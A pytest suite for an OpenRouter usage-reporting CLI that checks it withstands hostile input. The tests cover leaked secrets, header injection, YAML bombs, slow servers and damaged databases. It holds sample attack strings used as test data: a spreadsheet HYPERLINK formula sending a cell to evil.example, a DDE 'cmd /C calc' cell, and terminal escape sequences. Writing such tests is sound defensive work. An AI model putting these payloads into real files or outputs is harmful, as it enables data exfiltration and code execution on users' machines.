"""Hostile input through the whole CLI: secrets in every form stay out of the output, bad input
is one line with the right exit code, and a trickling server cannot hold a command past its
deadline. Every test runs `bot.cli.main` against the loopback fakes."""

from __future__ import annotations

import datetime as dt
import json
import socket
import threading
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.cli import main
from tests.conftest import no_wait, run_clock
from tests.fake_openrouter import MANAGEMENT_KEY, FakeOpenRouter, sample_org

NOW = run_clock().now
YESTERDAY = run_clock().digest_day  # the day a digest sent now reports on



def secret_forms(secret: str) -> set[str]:
    """A secret as it could leak: raw, `repr`-escaped (str and bytes), JSON and URL-encoded."""
    return {
        secret,
        secret.strip(),
        repr(secret)[1:-1],
        repr(secret.encode())[2:-1],
        json.dumps(secret)[1:-1],
        urllib.parse.quote(secret, safe=""),
        urllib.parse.quote_plus(secret),
    }


def assert_no_secret(text: str, *secrets: str) -> None:
    for secret in secrets:
        for form in secret_forms(secret):
            assert form not in text, f"secret leaked as {form!r}"


def assert_one_line(err: str) -> None:
    assert err.count("\n") == 1 and err.endswith("\n"), err
    assert "Traceback" not in err


@pytest.fixture()
def org(fake_openrouter: FakeOpenRouter, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> FakeOpenRouter:
    """The fake serving a sample org up to yesterday; a clean environment in a temp folder."""
    data = sample_org(last_day=YESTERDAY, days=3)
    fake_openrouter.credits = data["credits"]
    fake_openrouter.activity_rows = data["activity"]
    fake_openrouter.key_activity = data["key_activity"]
    fake_openrouter.keys = data["keys"]
    monkeypatch.chdir(tmp_path)
    for var in ("OPENROUTER_API_KEY", "OPENROUTER_USAGE_CONFIG"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("OPENROUTER_MANAGEMENT_KEY", MANAGEMENT_KEY)
    monkeypatch.setenv("OPENROUTER_BASE_URL", fake_openrouter.base_url)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return fake_openrouter


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv), now=lambda: NOW, sleep=no_wait)
    out, err = capsys.readouterr()
    return code, out, err


# --- deadlines ---------------------------------------------------------------------------------


@pytest.fixture()
def trickler() -> Iterator[str]:
    """An HTTP server on loopback that answers every request one byte every 50 ms (a 200 with
    a long JSON body), from the status line on; yields its base URL."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.05)
    stop = threading.Event()
    body = b'{"data": ' + b" " * 2000 + b"[]}"
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" \
        % (len(body), body)

    def serve(conn: socket.socket) -> None:
        with conn:
            try:
                conn.recv(65536)
                for i in range(len(answer)):
                    if stop.wait(0.05):
                        return
                    conn.sendall(answer[i : i + 1])
            except OSError:
                return

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/api/v1"
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


def test_trickling_openrouter_cannot_hold_report_past_its_deadline(
    org, trickler: str, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENROUTER_BASE_URL", trickler)
    Path("c.yaml").write_text("openrouter: {timeout: 0.4, retry_budget: 1s, max_attempts: 2}\n")
    started = time.monotonic()
    code, out, err = cli(capsys, "--config", "c.yaml", "report", "--no-credits")
    elapsed = time.monotonic() - started
    assert code == 1 and out == ""
    assert_one_line(err)
    assert "no complete answer within 0.4s" in err and "after 2 attempts" in err
    # two attempts of 0.4 s each; without a deadline one byte per 50 ms takes minutes
    assert elapsed < 2.5


def test_illegal_header_from_a_key_is_one_attempt_and_never_quoted(org) -> None:
    from bot.errors import ApiError
    from bot.openrouter import OpenRouterClient

    key = "custom-secret-key\nsecond-line"  # not shaped like an OpenRouter key: only its value
    sleeps: list[float] = []
    with OpenRouterClient(key, org.base_url, sleep=sleeps.append) as client:
        with pytest.raises(ApiError) as err:
            client.credits()
    assert "could not be sent" in str(err.value)
    assert_no_secret(str(err.value), key, "custom-secret-key", "second-line")
    assert sleeps == [] and org.requests == []  # a local, permanent error: not retried


# --- secrets -----------------------------------------------------------------------------------


@pytest.mark.parametrize("verbose", [False, True])
def test_key_ending_in_a_newline_is_stripped_and_works(org, capsys, monkeypatch,
                                                       verbose: bool) -> None:
    monkeypatch.setenv("OPENROUTER_MANAGEMENT_KEY", MANAGEMENT_KEY + "\n")
    code, out, err = cli(capsys, *(["-v"] if verbose else []), "report", "--json")
    assert code == 0, err
    assert json.loads(out)["credits"] is not None
    assert_no_secret(out + err, MANAGEMENT_KEY + "\n", MANAGEMENT_KEY)
    assert all(r.has_auth for r in org.requests)


def test_key_with_spaces_around_it_in_dotenv_is_stripped(org, capsys, monkeypatch) -> None:
    monkeypatch.delenv("OPENROUTER_MANAGEMENT_KEY")
    Path(".env").write_text(f'OPENROUTER_MANAGEMENT_KEY=" {MANAGEMENT_KEY}\\t\\n"\n')
    code, out, err = cli(capsys, "report", "--no-credits")
    assert code == 0, err
    assert_no_secret(out + err, MANAGEMENT_KEY)


@pytest.mark.parametrize("verbose", [False, True])
def test_key_with_a_line_break_inside_is_one_line_exit_2_never_quoted(
    org, capsys, monkeypatch, verbose: bool
) -> None:
    key = "custom-management-key\r\nX-Injected: yes"
    monkeypatch.setenv("OPENROUTER_MANAGEMENT_KEY", key)
    code, out, err = cli(capsys, *(["-v"] if verbose else []), "report")
    assert code == 2 and out == ""
    last = err.splitlines()[-1]
    assert last.startswith("openrouter-usage: error: OPENROUTER_MANAGEMENT_KEY: contains a "
                           "control character")
    if not verbose:
        assert_one_line(err)
    assert_no_secret(err, key, "custom-management-key", "X-Injected: yes")
    assert org.requests == []


@pytest.mark.parametrize("verbose", [False, True])
def test_yaml_error_on_a_password_line_never_prints_it(org, capsys, verbose: bool) -> None:
    Path("c.yaml").write_text("email:\n  host: smtp.example.com\n"
                              "  password: hunter2-literal: oops\n")
    code, out, err = cli(capsys, *(["-v"] if verbose else []), "--config", "c.yaml", "check")
    assert code == 2
    # (libyaml ends it "in this context", PyYAML's own parser "here")
    assert err.splitlines()[-1].startswith(
        "openrouter-usage: error: c.yaml: not valid YAML at line 3, column 28: mapping values "
        "are not allowed ")
    if not verbose:
        assert_one_line(err)
    assert "hunter2" not in err


def test_non_ascii_smtp_password_is_a_config_error_not_a_crash(org, capsys, monkeypatch) -> None:
    monkeypatch.setenv("SMTP_PASSWORD", "pässwörd-geheim")
    Path("c.yaml").write_text("email: {host: 127.0.0.1, from: a@example.com, "
                              "password: '${SMTP_PASSWORD}'}\nreports: {daily: {to: [stdout]}}\n")
    code, out, err = cli(capsys, "--config", "c.yaml", "send", "daily")
    assert code == 2
    assert_one_line(err)
    assert "email.password: contains non-ASCII characters" in err
    assert_no_secret(err, "pässwörd-geheim")


def test_verbose_tracebacks_redact_every_form_of_a_secret(capsys, monkeypatch) -> None:
    import logging

    from bot.cli import REDACTOR, setup_logging

    secret = "token-value-with spaces/&="
    monkeypatch.setattr(REDACTOR, "secrets", [secret])
    setup_logging(verbose=True, quiet=False)
    try:
        raise ValueError(f"{secret!r} {secret.encode()!r} {urllib.parse.quote(secret)}")
    except ValueError:
        logging.getLogger("bot.test").debug("failed with %s", secret, exc_info=True)
    err = capsys.readouterr().err
    assert "Traceback" in err and "***" in err
    assert_no_secret(err, secret)


# --- configuration files ---------------------------------------------------------------------


def config_error(capsys, *argv: str) -> str:
    """Run the command, expect exit 2 with one line on stderr; return that line."""
    code, out, err = cli(capsys, *argv)
    assert code == 2, err
    assert_one_line(err)
    assert err.startswith("openrouter-usage: error: ")
    return err.strip()


def test_config_that_is_a_fifo_fails_at_once(org, capsys) -> None:
    import os

    os.mkfifo("fifo.yaml")
    assert config_error(capsys, "--config", "fifo.yaml", "check").endswith(
        "config file fifo.yaml: not a regular file")


@pytest.mark.parametrize("path", ["/dev/zero", "."])
def test_config_that_is_a_device_or_a_folder_is_refused(org, capsys, path: str) -> None:
    assert config_error(capsys, "--config", path, "check").endswith(": not a regular file")


def test_config_larger_than_the_cap_is_refused(org, capsys) -> None:
    Path("big.yaml").write_text("# padding\n" * 200_000)
    assert "larger than 1 MiB" in config_error(capsys, "--config", "big.yaml", "report")


def test_yaml_alias_bomb_is_refused_without_expanding(org, capsys) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    Path("bomb.yaml").write_text("\n".join(lines) + "\n")
    started = time.monotonic()
    line = config_error(capsys, "--config", "bomb.yaml", "report")
    assert "line 2, column 10: aliases (*name) are not allowed" in line
    assert time.monotonic() - started < 2


def test_deeply_nested_yaml_is_one_line(org, capsys) -> None:
    Path("deep.yaml").write_text("a: " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert "deep.yaml: " in config_error(capsys, "--config", "deep.yaml", "report")


def test_non_utf8_config_and_dotenv_are_config_errors(org, capsys) -> None:
    Path("c.yaml").write_bytes(b"timezone: UTC\nstorage: {path: \xff\xfe.db}\n")
    assert config_error(capsys, "--config", "c.yaml", "report").endswith(
        "config file c.yaml: not UTF-8 text (line 2)")
    Path(".env").write_bytes(b"OTHER=1\nSMTP_PASSWORD=\xe9t\xe9\n")
    assert "the .env file" in config_error(capsys, "report")
    assert "not UTF-8 text (line 2)" in config_error(capsys, "report")


@pytest.mark.parametrize(
    ("yaml", "message"),
    [
        ("sync_every: 99999999999d", "sync_every: at most 365d, got '99999999999d'"),
        ("alerts: {repeat_every: 400d}", "alerts.repeat_every: at most 365d"),
        ("openrouter: {timeout: .nan}", "openrouter.timeout: expected a number"),
        ("openrouter: {timeout: .inf}", "openrouter.timeout: expected a number"),
        ("openrouter: {timeout: 1.0e+300}", "openrouter.timeout: expected a number of seconds"),
        ("alerts: {rules: [{kind: runway, below_days: .inf, to: [stdout]}]}",
         "alerts.rules[0].below_days: expected a number"),
        ("alerts: {rules: [{kind: runway, below_days: " + "9" * 400 + ", to: [stdout]}]}",
         "alerts.rules[0].below_days: expected a number"),
        ("reports: {daily: {at: 10:30}}",
         'reports.daily.at: put the time in quotes, "10:30" (unquoted, YAML reads it as the '
         "number 630)"),
        ("reports: {weekly: {at: 7:05:30}}", 'reports.weekly.at: put the time in quotes, '
         '"7:05:30"'),
        ("email: {port: 70000}", "email.port: expected a port number from 1 to 65535"),
        ("email: {port: 0}", "email.port: expected a port number from 1 to 65535"),
        ('email: {host: h, from: "a@example.com\\r\\nBcc: victim@example.com"}',
         "email.from: contains a control character"),
        ("email: {host: h, from: not-an-address}", "email.from: expected an address"),
        ('email: {host: "smtp.example.com\\nRCPT TO: x"}',
         "email.host: contains a control character"),
        ('slack: {token: "xoxb-1\\nInjected: 1"}', "slack.token: contains a control character"),
    ],
)
def test_bad_values_are_one_line_naming_the_option(org, capsys, yaml: str, message: str) -> None:
    Path("c.yaml").write_text(yaml + "\n")
    assert message in config_error(capsys, "--config", "c.yaml", "report")


def test_storage_path_that_is_a_folder_is_a_config_error(org, capsys) -> None:
    Path("data").mkdir()
    Path("c.yaml").write_text("storage: {path: data}\n")
    assert "storage.path: data is a folder" in config_error(capsys, "--config", "c.yaml", "sync")


def test_missing_templates_dir_is_a_config_error(org, capsys) -> None:
    Path("c.yaml").write_text("templates_dir: ./no-such-folder\n"
                              "reports: {daily: {to: [stdout]}}\n")
    assert "templates_dir: no-such-folder is not a folder" in config_error(
        capsys, "--config", "c.yaml", "send", "daily", "--dry-run")


def test_base_url_in_the_file_is_valid_when_the_environment_overrides_it(org, capsys) -> None:
    Path("c.yaml").write_text("openrouter: {base_url: 'https://openrouter.example/api/v1'}\n")
    code, out, err = cli(capsys, "--config", "c.yaml", "report", "--no-credits")
    assert code == 0, err
    assert org.requests  # the environment's URL (the fake) won


# --- command-line values ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["report", "--days", "99999999"], "--days: at most 3660, got 99999999"),
        (["report", "--from", "0001-01-01"], "--from: 0001-01-01 is before 2000-01-01"),
        (["report", "--from", "2000-01-01"], "a report covers at most 3660 days"),
        (["send", "daily", "--date", "0001-01-01", "--to", "stdout"],
         "--date: 0001-01-01 is before 2000-01-01"),
        (["send", "weekly", "--date", "9999-12-31", "--to", "stdout"],
         "9999-12-31 is not a completed UTC day yet"),
    ],
)
def test_absurd_dates_and_spans_are_usage_errors(org, capsys, argv: list[str],
                                                 message: str) -> None:
    Path("c.yaml").write_text(f"storage: {{path: {Path.cwd() / 'h.db'}}}\n")
    assert message in config_error(capsys, "--config", "c.yaml", *argv)


@pytest.mark.parametrize(
    "argv",
    [["report", "--bogus"], ["send"], ["frobnicate"], ["report", "--days", "ten"],
     ["-v", "-q", "report"], ["send", "daily", "--to"]],
)
def test_argparse_usage_errors_are_one_line(org, capsys, argv: list[str]) -> None:
    line = config_error(capsys, *argv)
    assert line.endswith("--help)") and not line.startswith("usage:")


# --- absurd API answers ------------------------------------------------------------------------


@pytest.mark.parametrize("number", ["1e30", "1e5000", "-1e30"])
@pytest.mark.parametrize("command", [["report"], ["report", "--json"], ["sync"]])
def test_absurd_api_amounts_are_one_line_exit_1(org, capsys, number: str,
                                                command: list[str]) -> None:
    row = dict(org.activity_rows[0], usage="NUMBER")
    org.fail_next("/activity", 200, body=json.dumps({"data": [row]}).replace('"NUMBER"', number))
    code, out, err = cli(capsys, *command)
    assert code == 1 and out == ""
    assert_one_line(err)
    assert "OpenRouter /activity returned a malformed body: usage is out of range" in err


@pytest.mark.parametrize("number", ["1e30", "99999999999999999999999"])
def test_absurd_api_counts_are_one_line_exit_1_not_a_history_overflow(org, capsys,
                                                                      number: str) -> None:
    row = dict(org.activity_rows[0], requests="NUMBER")
    org.fail_next("/activity", 200, body=json.dumps({"data": [row]}).replace('"NUMBER"', number))
    code, out, err = cli(capsys, "sync")
    assert code == 1 and out == ""
    assert_one_line(err)
    assert "OpenRouter /activity returned a malformed body: requests" in err


def test_absurd_credits_are_one_line_exit_1(org, capsys) -> None:
    org.fail_next("/credits", 200, body='{"data": {"total_credits": 1e5000, "total_usage": 1}}')
    code, out, err = cli(capsys, "report")
    assert code == 1
    assert_one_line(err)
    assert "total_credits is out of range" in err


# --- history database --------------------------------------------------------------------------


@pytest.fixture()
def history(org, capsys) -> Path:
    """A config whose history database has been synced once; returns the config path."""
    db = Path.cwd() / "history.db"
    config = Path("c.yaml")
    config.write_text(f"storage: {{path: {db}}}\nhistory: {{backfill: 1d}}\n"
                      "reports: {daily: {to: [stdout]}, weekly: {to: [stdout]}}\n")
    code, _, err = cli(capsys, "--config", str(config), "sync")
    assert code == 0, err
    return config


def damage(db: Path, sql: str) -> None:
    import sqlite3

    conn = sqlite3.connect(db)
    with conn:
        conn.execute(sql)
    conn.close()


def test_history_with_a_dropped_table_is_one_line_exit_1(history: Path, capsys) -> None:
    damage(Path("history.db"), "DROP TABLE activity")
    for argv in (["report", "--from", str(YESTERDAY - dt.timedelta(days=40))],
                 ["send", "daily", "--dry-run"]):
        code, out, err = cli(capsys, "--config", str(history), *argv)
        assert code == 1, err
        assert_one_line(err)
        assert "history database" in err and "no such table: activity" in err


def test_history_with_a_non_numeric_money_cell_is_one_line_exit_1(history: Path, capsys) -> None:
    damage(Path("history.db"), "UPDATE activity SET usage = 'lots'")
    code, out, err = cli(capsys, "--config", str(history), "send", "daily", "--dry-run")
    assert code == 1 and out == ""
    assert_one_line(err)
    assert "history database is damaged: a row of activity cannot be read" in err


@pytest.fixture()
def read_only() -> Iterator[list[Path]]:
    """Paths added to the list are made read-only (chmod; for root, which chmod does not
    stop, the immutable attribute) and writable again afterwards."""
    import os
    import shutil
    import subprocess

    paths: list[Path] = []
    yield paths
    if os.geteuid() == 0 and shutil.which("chattr"):
        subprocess.run(["chattr", "-i", *map(str, paths)], check=False)
    for path in paths:
        path.chmod(0o755 if path.is_dir() else 0o644)


def make_read_only(paths: list[Path], *targets: Path) -> None:
    import os
    import shutil
    import subprocess

    paths.extend(targets)
    for path in targets:
        path.chmod(0o555 if path.is_dir() else 0o444)
    if os.geteuid() == 0:
        if not shutil.which("chattr") or subprocess.run(
                ["chattr", "+i", *map(str, targets)], capture_output=True).returncode:
            pytest.skip("running as root without chattr: no way to make a file read-only")
    try:
        (targets[-1] / "probe").write_text("x")
    except OSError:
        return
    pytest.skip("this file system cannot be made read-only here")


def test_report_reads_a_read_only_history_database(org, read_only, capsys, monkeypatch) -> None:
    import subprocess
    import sys

    folder = Path("ro")
    folder.mkdir()
    db = folder / "history.db"
    Path("c.yaml").write_text(f"storage: {{path: {db.resolve()}}}\nhistory: {{backfill: 1d}}\n")
    # a sync in its own process, so that it closes the database (and its WAL files) on exit
    env = {**__import__("os").environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    done = subprocess.run([sys.executable, "-m", "bot", "--config", "c.yaml", "sync"],
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["history.db"]
    make_read_only(read_only, db, folder)
    start = YESTERDAY - dt.timedelta(days=35)
    code, out, err = cli(capsys, "--config", "c.yaml", "report", "--from", str(start), "--json")
    assert code == 0, err
    assert json.loads(out)["period"]["from"] == str(start)
    assert sorted(p.name for p in folder.iterdir()) == ["history.db"]  # nothing written


def test_digest_for_a_day_the_history_lacks_says_so_and_sends_nothing(history: Path,
                                                                      capsys) -> None:
    old = YESTERDAY - dt.timedelta(days=400)
    for argv in (["send", "daily", "--date", str(old)],
                 ["send", "weekly", "--date", str(old), "--dry-run"]):
        code, out, err = cli(capsys, "--config", str(history), *argv)
        assert code == 1 and out == "", out
        assert_one_line(err)
        first = old - dt.timedelta(days=6) if "weekly" in argv else old
        assert f"history has no data for {first}" in err and "Nothing was sent" in err
        assert "No spend" not in out + err


# --- what reaches spreadsheets, terminals, e-mail and Slack ------------------------------------

FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
TERMINAL_KEY = "ops\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eyek-evil\r\nsecond line"
SLACK_KEY = "*boss* _it_ ~gone~ `code` ci_runner"
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


@pytest.fixture()
def world(org, fake_slack, smtp_server, capsys, monkeypatch) -> dict[str, object]:
    """The org with hostile names, Slack and SMTP fakes, and a config delivering to them."""
    row = org.activity_rows[0]
    row.update(model=FORMULA_MODEL, provider_name="+cmd|' /C calc'!A0",
               model_permaslug="@SUM(1+1)", endpoint_id="-2+3")
    org.keys[1]["name"] = TERMINAL_KEY
    org.keys[2]["name"] = SLACK_KEY
    org.analytics_status = 404  # history from /activity alone: no analytics to compare
    monkeypatch.setenv("SLACK_BOT_TOKEN", fake_slack.token)
    Path("c.yaml").write_text(f"""
storage: {{path: {Path.cwd() / "history.db"}}}
history: {{backfill: 1d}}
slack: {{token: "${{SLACK_BOT_TOKEN}}", base_url: "{fake_slack.base_url}"}}
email: {{host: 127.0.0.1, port: {smtp_server.port}, security: none, from: usage@example.com}}
reports:
  daily: {{to: ["slack:#ops"], top: 20}}
  weekly: {{to: ["email:finance@example.com"], top: 20}}
alerts:
  rules: [{{kind: low_credits, below_usd: 1000000, to: ["slack:#alerts"]}}]
""")
    monkeypatch.setenv("OPENROUTER_USAGE_CONFIG", str(Path("c.yaml").resolve()))
    return {"or": org, "slack": fake_slack, "smtp": smtp_server}


def test_report_csv_neutralises_formula_cells_and_keeps_numbers(world, capsys) -> None:
    import csv
    import io

    org = world["or"]
    org.activity_rows[1]["usage"] = -0.5  # a refund: data, not a formula
    code, out, err = cli(capsys, "report", "--csv", "--no-credits")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    evil = next(r for r in rows if "HYPERLINK" in r["model"])
    assert evil["model"] == "'" + FORMULA_MODEL
    assert evil["provider"].startswith("'+") and evil["model_permaslug"] == "'@SUM(1+1)"
    assert evil["endpoint_id"] == "'-2+3"
    assert "-0.5" in {r["usage"] for r in rows}  # numbers are written as numbers
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())


def test_weekly_csv_attachment_neutralises_formula_cells(world, capsys) -> None:
    import csv
    import io

    code, out, err = cli(capsys, "send", "weekly")
    assert code == 0, err
    [mail] = world["smtp"].messages
    [attachment] = [p for p in mail.message.iter_attachments()
                    if p.get_content_type() == "text/csv"]
    rows = list(csv.DictReader(io.StringIO(attachment.get_content())))
    evil = next(r for r in rows if "HYPERLINK" in r["model"])
    assert evil["model"] == "'" + FORMULA_MODEL and evil["provider"].startswith("'+")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in rows for cell in r.values() if not _number(cell))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_terminal_controls_in_names_never_reach_the_terminal_or_the_email(world,
                                                                           capsys) -> None:
    code, text, err = cli(capsys, "report", "--by-key")
    assert code == 0, err
    assert "yek-evil" in text
    code, doc, err = cli(capsys, "report", "--by-key", "--json")
    assert code == 0, err
    assert TERMINAL_KEY in {k["key"] for k in json.loads(doc)["by_key"]}  # the data is intact
    code, digest, err = cli(capsys, "send", "daily", "--to", "stdout")
    assert code == 0, err
    code, _, err = cli(capsys, "send", "weekly")
    assert code == 0, err
    [mail] = world["smtp"].messages
    # (MIME lines end in CRLF: that \r is the mail's, not a name's)
    body = mail.message.get_body(("plain",)).get_content().replace("\r\n", "\n")
    html = mail.message.get_body(("html",)).get_content().replace("\r\n", "\n")
    assert "yek-evil" in body
    for output in (text, doc, digest, body, html, err):
        for char in CONTROLS:
            assert char not in output, (char, output[:200])


def test_slack_formatting_marks_in_names_format_nothing(world, capsys) -> None:
    code, out, err = cli(capsys, "send", "daily")
    assert code == 0, err
    [post] = world["slack"].posts
    blocks = post["blocks"] if not isinstance(post["blocks"], str) else json.loads(post["blocks"])
    text = post.get("text", "") + json.dumps(blocks, ensure_ascii=False)
    assert "∗boss∗ ˍitˍ ∼gone∼ ˋcodeˋ ci_runner" in text  # look-alikes that format nothing
    for raw in ("*boss*", "_it_", "~gone~", "`code`"):
        assert raw not in text
    assert "<!channel>" not in text


# --- status lines and retry chatter ------------------------------------------------------------


def test_a_digest_sent_by_this_run_is_not_also_called_already_sent(world, capsys) -> None:
    world["slack"].fail_next("chat.postMessage", 429, headers={"Retry-After": "700"})
    code, out, err = cli(capsys, "send", "daily")
    assert code == 1 and "slack:#ops: failed" in out
    later = NOW + dt.timedelta(minutes=2)
    code = main(["send", "daily"], now=lambda: later, sleep=no_wait)
    out, err = capsys.readouterr()
    assert code == 0, err
    [line] = [line for line in out.splitlines() if "slack:#ops" in line]  # one line, which
    assert line.startswith(f"daily {YESTERDAY}: slack:#ops: sent")  # says what happened
    assert "already sent" not in out
    assert len(world["slack"].posts) == 1


def test_alerts_after_delivering_pending_alerts_says_so(world, capsys) -> None:
    world["slack"].fail_next("chat.postMessage", 429, headers={"Retry-After": "700"})
    code, out, err = cli(capsys, "alerts")
    assert code == 1 and "FIRE" in out and "failed" in out
    later = NOW + dt.timedelta(minutes=2)
    code = main(["alerts"], now=lambda: later, sleep=no_wait)
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "slack:#alerts: sent" in out and "nothing changed" not in out
    assert len(world["slack"].posts) == 1
    code, out, err = cli(capsys, "alerts")
    assert "nothing changed" in out


def test_retries_are_quiet_without_verbose(world, capsys) -> None:
    world["or"].fail_next("/credits", 503, n=2)
    code, out, err = cli(capsys, "report")
    assert code == 0 and err == ""
    world["or"].fail_next("/credits", 503, n=2)
    code, out, err = cli(capsys, "-v", "report")
    assert code == 0 and err.count("retrying in") == 2


def test_a_failed_delivery_is_one_stderr_line_at_most(world, capsys) -> None:
    world["slack"].fail_next("chat.postMessage", 503, n=10)
    code, out, err = cli(capsys, "send", "daily")
    assert code == 1 and "slack:#ops: failed" in out
    assert err.count("\n") <= 1, err



def test_status_lines_are_one_line_without_secrets_or_controls(capsys, monkeypatch) -> None:
    # what the shells print per delivery, alert and check carries servers' and users' text
    from bot.cli import REDACTOR, say

    token = "bot-token-not-shaped-like-one-4242"
    monkeypatch.setattr(REDACTOR, "secrets", [token])
    say(f"daily: slack:#ops: failed (answer: {token!r} {urllib.parse.quote(token)}"
        "\x1b[2J\r\nforged: line)")
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and "forged: line" in out and "***" in out
    assert_no_secret(out, token)
    assert "\x1b" not in out and "\r" not in out
